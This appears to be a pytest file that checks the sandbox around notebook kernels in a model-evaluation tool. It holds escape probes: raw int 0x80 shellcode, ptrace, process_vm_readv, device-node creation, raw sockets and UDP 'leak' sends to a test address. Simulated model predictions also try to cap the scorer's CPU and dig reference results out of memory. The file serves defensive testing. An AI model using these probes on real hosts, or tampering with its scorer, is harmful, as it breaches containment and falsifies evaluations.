"""Attacks on the box around a kernel, third round: foreign system-call entries, capabilities over the host,
the network of any protocol, limits on the scorer (SECURITY.md, threats 11 and 12).

Real ``themisto record`` and ``exec-score`` processes, as whatever user runs the tests (CI: root). Each cell
prints what its attempt got, ``allowed`` or the errno's name, so the trajectory holds every verdict.
"""

from __future__ import annotations

import json
import platform
import socket
from pathlib import Path
from typing import Any

import pytest
from attacks import assert_refused_unless_unconfined, run_themisto, write_notebook
from exec_logs import write_next_cell_logs

from themisto.kernel.inside import landlock
from themisto.trajectory import read_trajectory
from themisto.vocabulary import NEXT_CELL_TASK, REFERENCE_MODEL

pytestmark = [
    pytest.mark.kernel,
    pytest.mark.skipif(landlock.abi_version() < 6, reason="needs Landlock ABI >= 6 (scoped signals)"),
    pytest.mark.skipif(platform.machine() != "x86_64", reason="the 32-bit entry is x86_64's"),
]

# Helpers of every probe: a native system call, the same through the 32-bit entry (`int 0x80`, from 64-bit code
# mapped executable), and a Python call; each gives 'allowed' or the errno's name.
PROBES = r"""
import ctypes, errno, mmap, os, resource, socket, stat, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def told(result):
    return 'allowed' if result >= 0 else errno.errorcode[-result]
def native(number, *args):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    return told(result if result >= 0 else -ctypes.get_errno())
def i386(number, a=0, b=0, c=0):
    word = lambda value: value.to_bytes(4, 'little')
    # push rbx; mov eax, number; mov ebx, a; mov ecx, b; mov edx, c; int 0x80; pop rbx; ret
    code = b'\x53\xb8' + word(number) + b'\xbb' + word(a) + b'\xb9' + word(b) + b'\xba' + word(c) + b'\xcd\x80\x5b\xc3'
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return told(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
def attempt(action):
    try:
        action()
        return 'allowed'
    except OSError as exc:
        return errno.errorcode[exc.errno]
"""

# Each attack on the host (a cell printing its verdicts) and what it gets from a sandboxed kernel.
# Before: i386 getpid, ptrace, process_vm_readv, prlimit, settimeofday, SO_MARK, the block and character
# nodes all 'allowed' (as root), reboot EINVAL, the clock and module calls EFAULT/EBADF/ENOENT.
HOST_ATTACKS = {
    "print(i386(20))": "EPERM",  # getpid through the 32-bit entry
    "print(native(0x40000000 | 39))": "EPERM",  # getpid by its x32 number
    # PTRACE_ATTACH to its own child, which Landlock allows
    "child = subprocess.Popen(['sleep', '60'])\nprint(native(101, 16, child.pid, 0, 0))\nchild.kill()": "EPERM",
    (
        "buffer = ctypes.create_string_buffer(8)\niov = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)\n"
        "print(native(310, os.getpid(), ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0))"
    ): "EPERM",  # process_vm_readv, even of itself
    "print(attempt(lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE)))": "EPERM",  # the launcher's
    "print(attempt(lambda: resource.prlimit(0, resource.RLIMIT_NOFILE)))": "allowed",  # its own
    "print(native(169, 0, 0, 0, 0))": "EPERM",  # reboot with a bad magic
    "print(native(164, 0, 0))": "EPERM",  # settimeofday(NULL, NULL): the capability check alone
    "print(native(227, 0, 0), native(159, 0))": "EPERM EPERM",  # clock_settime, adjtimex
    "print(native(313, -1, 0, 0), native(176, 0, 0), native(320, -1, -1, 0, 0, 0))": "EPERM EPERM EPERM",
    "print(attempt(lambda: os.mknod('block', 0o600 | stat.S_IFBLK, os.makedev(7, 0))))": "EPERM",
    "print(attempt(lambda: os.mknod('char', 0o600 | stat.S_IFCHR, os.makedev(1, 3))))": "EPERM",
    "print(attempt(lambda: os.mkfifo('fifo')))": "allowed",
    "print(native(425, 1, 0))": "EPERM",  # io_uring_setup
    "print(open('/proc/self/status').read().split('CapEff:')[1].split()[0])": "0000000000000000",
    "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, 36, 1)))": (
        "EPERM"  # SO_MARK: CAP_NET_ADMIN
    ),
}


def network_attacks(port: int) -> dict[str, str]:
    """Each attack on the network (UDP to a listener of the test's, and out; raw, packet, netlink) and what a
    kernel without the network gets. Before: 'allowed' each, the datagram arrived, and every interface showed."""
    udp = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', {!r})"
    return {
        f"print(attempt(lambda: {udp.format(('127.0.0.1', port))}))": "ENETUNREACH",
        f"print(attempt(lambda: {udp.format(('192.0.2.1', 9))}))": "ENETUNREACH",
        "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)))": "EPERM",
        "print(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))": "EPERM",
        "print(sorted(name for _, name in socket.if_nameindex()))": "['lo']",  # through netlink
    }


def _record(tmp_path: Path, cells: list[str], *options: str) -> tuple[list[str], str]:
    """Each cell's output recorded by ``themisto record`` (after the probes' helpers), and its stderr."""
    work = tmp_path / "work"
    work.mkdir()
    notebook = write_notebook(work / "box.ipynb", [PROBES, *cells])
    result = run_themisto("record", str(notebook), "-o", str(tmp_path / "out"), *options)
    assert result.returncode == 0, result.stderr
    return [step.output for step in read_trajectory(tmp_path / "out" / "box.jsonl")][1:], result.stderr


@pytest.fixture
def listener() -> Any:
    """A UDP socket of the test's on 127.0.0.1, which no datagram from a kernel without the network reaches."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield udp


def _received(udp: socket.socket) -> bytes:
    try:
        return udp.recv(64)
    except BlockingIOError:
        return b""


def test_a_sandboxed_kernel_has_no_capability_no_foreign_entry_and_no_network(tmp_path: Path, listener: Any) -> None:
    attacks = {**HOST_ATTACKS, **network_attacks(listener.getsockname()[1])}
    verdicts, stderr = _record(tmp_path, list(attacks))
    assert dict(zip(attacks, verdicts, strict=True)) == attacks
    assert "warning" not in stderr
    assert _received(listener) == b""
    assert not (tmp_path / "work" / "block").exists() and (tmp_path / "work" / "fifo").exists()


def test_with_allow_network_the_kernel_has_the_network_but_still_no_capability(tmp_path: Path, listener: Any) -> None:
    port = listener.getsockname()[1]
    cells = [next(iter(network_attacks(port))), *list(HOST_ATTACKS)[-2:]]  # UDP to the listener, CapEff, SO_MARK
    verdicts, stderr = _record(tmp_path, cells, "--allow-network")
    assert verdicts == ["allowed", "0000000000000000", "EPERM"]
    assert _received(listener) == b"leak"
    # before: not a word on stderr, for this option or --no-sandbox (only the provenance told)
    assert _warnings(stderr) == [
        "themisto record: warning: --allow-network: the kernels may use the network, of any protocol"
    ]


def _warnings(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if "warning" in line]


def test_no_sandbox_warns_in_one_line(tmp_path: Path) -> None:
    _, stderr = _record(tmp_path, ["x = 1"], "--no-sandbox", "--allow-network")
    (warning,) = _warnings(stderr)  # one line, though both options were given
    assert warning.startswith("themisto record: warning: --no-sandbox: the kernels run unconfined")


# Makes unshare(2) fail with EPERM, as in a container whose seccomp profile refuses namespaces.
WITHOUT_NAMESPACES = """
    (0x15, 0, 1, 272),  # unshare
    (0x06, 0, 0, 0x00050000 | 1),  # EPERM
"""


def test_where_namespaces_are_refused_record_refuses_in_one_line_naming_no_sandbox(tmp_path: Path) -> None:
    assert_refused_unless_unconfined(tmp_path, WITHOUT_NAMESPACES, "namespaces", "Operation not permitted")


# The session a prediction attacks at step 2 (where the developer printed 42).
SESSION = ["counter = 6", "counter += 0", "print(counter * 7)", "counter + 1"]
# Each attack prints the developer's 42 only when refused, so its exec_match says whether it was.
# Before: the 32-bit socket() worked (a prediction then reached the replay kernel's channels, undetected).
UNIX_SOCKET_32 = PROBES + (
    "verdicts = (i386(359, socket.AF_UNIX, socket.SOCK_STREAM), attempt(lambda: socket.socket(socket.AF_UNIX)))\n"
    "print(42 if verdicts == ('EPERM', 'EPERM') else verdicts)"
)
# Before: the datagram arrived (UDP is no concern of Landlock's), with or without --allow-network; then, in a network
# namespace of its own, ENETUNREACH. Now no socket of any family (UDP, TCP over IPv6, raw packets, netlink; by the
# socket call itself too), a pair of its own still allowed (asyncio's loops need one).
NETWORK_FROM = PROBES + (
    "verdicts = (\n"
    "    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {}))),\n"
    "    attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)),\n"
    "    attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),\n"
    "    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)),\n"
    "    native(41, socket.AF_INET, socket.SOCK_DGRAM, 0),\n"
    "    attempt(socket.socketpair),\n"
    ")\n"
    "print(42 if verdicts == ('EPERM',) * 5 + ('allowed',) else verdicts)"
)
# Before: RLIMIT_CPU of 1 s on exec-score, through prlimit, which Landlock does not guard. Where the scorer is out
# of the prediction's sight (its PID namespace), the prediction tries another process it sees: its box's init.
LIMIT_THE_SCORER = (
    "import resource\nimport psutil\n"
    "targets = [p.pid for p in psutil.Process().parents() if 'exec-score' in ' '.join(p.cmdline())] or [1]\n"
    "for pid in targets:\n"
    "    resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))"
)
# Before: the kernel held the results of the step's earlier children (the reference's first) when it forked
# this one.
SEEK_RESULTS = (
    "import gc\n"
    "found = [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get('messages'), list) and 'status' in o]\n"
    "print(42 if not found else found)"
)


@pytest.mark.parametrize("network", [False, True], ids=["no-network", "allow-network"])
def test_a_prediction_gets_no_unix_socket_network_scorer_limit_or_earlier_result(
    tmp_path: Path, listener: Any, network: bool
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    notebook = write_notebook(work / "session.ipynb", SESSION)
    recorded = run_themisto("record", str(notebook), "-o", str(tmp_path / "trajectories"))
    assert recorded.returncode == 0, recorded.stderr
    trajectory = tmp_path / "trajectories" / "session.jsonl"
    predictions = {
        ("honest", NEXT_CELL_TASK): {2: "print(6 * 7)", 3: "counter + 1"},
        ("limiter", NEXT_CELL_TASK): {2: LIMIT_THE_SCORER},
        ("seeker", NEXT_CELL_TASK): {2: SEEK_RESULTS},
        ("socket32", NEXT_CELL_TASK): {2: UNIX_SOCKET_32},
        ("network", NEXT_CELL_TASK): {2: NETWORK_FROM.format(listener.getsockname()[1])},
    }
    run_dir = tmp_path / "run"
    write_next_cell_logs(run_dir, read_trajectory(trajectory), predictions)
    arguments = ["exec-score", str(run_dir), "--trajectories", str(trajectory), "--timeout", "60", "--quiet"]
    scored = run_themisto(*arguments, *(["--allow-network"] if network else []))
    assert scored.returncode == 0, scored.stderr

    def line(model: str, step: int = 2) -> dict[str, Any]:
        lines = (run_dir / model / f"exec_samples_{NEXT_CELL_TASK}.jsonl").read_text().splitlines()
        return {record["step"]: record for record in map(json.loads, lines)}[step]

    assert line("limiter")["error"] == "PermissionError: [Errno 1] Operation not permitted"
    assert [line(model)["exec_match"] for model in ("seeker", "socket32", "network")] == [1, 1, 1]
    assert _received(listener) == b""
    for step in (2, 3):
        assert (line(REFERENCE_MODEL, step)["exec_match"], line("honest", step)["exec_match"]) == (1, 1)
